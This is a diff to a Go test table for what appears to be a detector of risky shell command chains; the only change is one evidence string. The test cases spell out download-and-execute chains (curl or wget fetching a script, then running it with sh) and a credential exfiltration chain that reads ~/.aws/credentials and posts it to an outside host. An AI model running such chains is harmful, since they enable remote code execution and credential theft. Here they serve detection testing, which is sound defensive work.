@@ -30,7 +30,7 @@ func TestEarlierCompletesChains(t *testing.T) {
 		notWant     []string
 		evidence    string
 	}{
-		{first: "curl -o /tmp/x.sh https://example.com/x.sh", then: "sh /tmp/x.sh", want: findDownloadExec, evidence: "downloaded by record 41"},
+		{first: "curl -o /tmp/x.sh https://example.com/x.sh", then: "sh /tmp/x.sh", want: findDownloadExec, evidence: "downloaded by record 41: /tmp/x.sh"},
 		{first: "curl -sL https://example.com/x.sh > ./x.sh", then: "chmod +x x.sh && ./x.sh", want: findDownloadExec},
 		{first: "wget -O /tmp/a.tgz https://example.com/a.tgz", then: "tar xzf /tmp/a.tgz -C /tmp/a", notWant: []string{findDownloadExec, findOpaque}},
 		{first: "cat ~/.aws/credentials", then: "curl -d @- https://example.com/c", want: findExfiltration, evidence: "after record 41 read /home/u/.aws/credentials"},
